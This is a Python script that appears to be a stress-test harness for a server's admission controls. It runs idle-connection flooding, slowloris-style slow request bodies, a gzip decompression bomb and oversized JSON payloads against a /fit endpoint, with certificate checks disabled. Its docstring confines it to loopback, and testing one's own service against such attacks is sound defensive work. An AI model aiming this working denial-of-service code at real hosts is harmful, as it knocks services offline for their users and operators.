"""What admission is attacked with, all at once, until it is ended. Run as a program: see `attack`.

    attackers.py HOST PORT CONNECTIONS
    connections  that say nothing, half of them after a handshake
    slow bodies  over a hundred connections, a byte each
    bombs        2,000 times what they are sent as; JSON of 8 MiB that is no review

It must not go anywhere but to loopback.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import ssl
import sys
from typing import TYPE_CHECKING

import aiohttp

if TYPE_CHECKING:
    from collections.abc import Mapping

SLOW = b"POST /fit HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{"
AT_ONCE = 50
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def anybody() -> ssl.SSLContext:
    """A client that trusts whatever it is shown."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def silence(host: str, port: int, count: int) -> list[Streams]:
    """Open connections and say nothing."""
    held: list[Streams] = []
    context, places = anybody(), asyncio.Semaphore(AT_ONCE)

    async def one(number: int) -> None:
        async with places:
            with contextlib.suppress(OSError):
                held.append(
                    await asyncio.open_connection(host, port, ssl=context if number % 2 else None)
                )

    await asyncio.gather(*(one(number) for number in range(count)))
    return held


async def slow_bodies(host: str, port: int) -> None:
    """One body after another that never ends."""
    context = anybody()
    while True:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(10):
                reader, writer = await asyncio.open_connection(host, port, ssl=context)
                writer.write(SLOW)
                await reader.read()
                writer.close()
        await asyncio.sleep(0.1)


async def bomb(url: str, body: bytes, headers: Mapping[str, str]) -> None:
    """The same body again and again."""
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=anybody())) as session:
        while True:
            with contextlib.suppress(aiohttp.ClientError, TimeoutError):
                async with session.post(url, data=body, headers=headers) as response:
                    await response.read()
            await asyncio.sleep(0.2)


async def main(host: str, port: int, connections: int) -> None:
    """Everything at once."""
    url = f"https://{host}:{port}/fit"
    await asyncio.gather(
        bomb(url, gzip.compress(b" " * (64 << 20), 9), {"Content-Encoding": "gzip"}),
        bomb(url, b"[1" + b",1" * (4 << 20) + b"]", {}),
        bomb(url, b"[{}" + b",{}" * (2 << 20) + b"]", {}),
        *(slow_bodies(host, port) for _ in range(100)),
        silence(host, port, connections),
    )


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
